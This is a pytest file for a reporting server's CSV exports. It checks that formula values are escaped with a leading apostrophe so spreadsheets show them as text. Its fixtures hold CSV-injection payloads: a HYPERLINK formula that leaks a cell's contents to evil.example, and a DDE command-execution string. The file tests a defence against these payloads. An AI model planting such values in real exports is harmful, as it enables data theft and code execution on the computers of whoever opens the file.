"""Every CSV the reporting server exports opens in a spreadsheet as text: a formula anyone sent as a page title,
a name or a referrer arrives with an apostrophe in front (darksocial.spreadsheets), numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from darksocial import attribution, store

ORIGIN = "https://blog.example"
TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
NAME = "+cmd|' /C calc'!A0"
REFERRER = "@evil.example"


@pytest.fixture
def hostile(tmp_path, event_writer, inproc_for):
    path = tmp_path / "darksocial.db"
    db = store.open_db(path)
    store.register_site(db, "blog", [ORIGIN])
    day = store.utc_timestamp(dt.datetime.now(dt.timezone.utc) - dt.timedelta(hours=1))
    event_writer(path, [
        {"kind": "view", "visitor": "eveEEEEEEEEE", "url": ORIGIN + "/p", "token": "vE1xxxxxxx", "title": TITLE,
         "referrer_host": REFERRER, "ts": day},
        {"kind": "identify", "visitor": "eveEEEEEEEEE", "external_id": "eve", "name": NAME, "ts": day},
        {"kind": "share", "visitor": "eveEEEEEEEEE", "url": ORIGIN + "/p", "token": "sE1xxxxxxx",
         "parent": "vE1xxxxxxx", "channel": "wa", "ts": day},
        {"kind": "view", "visitor": "bobBBBBBBBBB", "url": ORIGIN + "/p", "token": "vB1xxxxxxx",
         "in_token": "sE1xxxxxxx", "in_channel": "wa", "title": "-", "ts": day},
    ], site="blog")
    attribution.attribute(db)
    db.close()
    return inproc_for(path)


def cells(response) -> list[str]:
    assert response.status_code == 200, response.text
    return [cell for row in csv.reader(io.StringIO(response.text, newline="")) for cell in row]


@pytest.mark.parametrize("export", ["/darksocial/top_stories.csv", "/darksocial/stories.csv",
                                    "/darksocial/stories.csv?_stream=on", "/darksocial/daily.csv?_dl=1"])
def test_public_exports_carry_a_hostile_title_as_text(hostile, export):
    path, _, query = export.partition("?")
    exported = cells(hostile.get(path, **dict([query.split("=")]) if query else {}))
    hostile_value = "'" + (REFERRER if "daily" in path else TITLE)
    assert hostile_value in exported and hostile_value[1:] not in exported


def test_analyst_exports_carry_hostile_names_and_referrers_as_text_and_numbers_as_numbers(hostile):
    influencers = cells(hostile.get("/darksocial/top_influencers.csv", signed_in=True))
    assert "'" + NAME in influencers and NAME not in influencers
    events = cells(hostile.get("/darksocial/events.csv", signed_in=True))
    assert {"'" + TITLE, "'" + REFERRER, "'" + NAME, "'-"} <= set(events)
    assert not {TITLE, REFERRER, NAME} & set(events)
    sql = "select -5 as negative, '+1.5e3' as signed, '-x' as text"
    assert cells(hostile.get("/darksocial.csv", signed_in=True, sql=sql))[3:] == ["-5", "+1.5e3", "'-x"]


def test_a_refused_csv_passes_as_it_is(hostile):
    refused = hostile.get("/darksocial/top_stories.csv", since="garbage")
    assert refused.status_code == 400 and "since must be a date" in refused.text
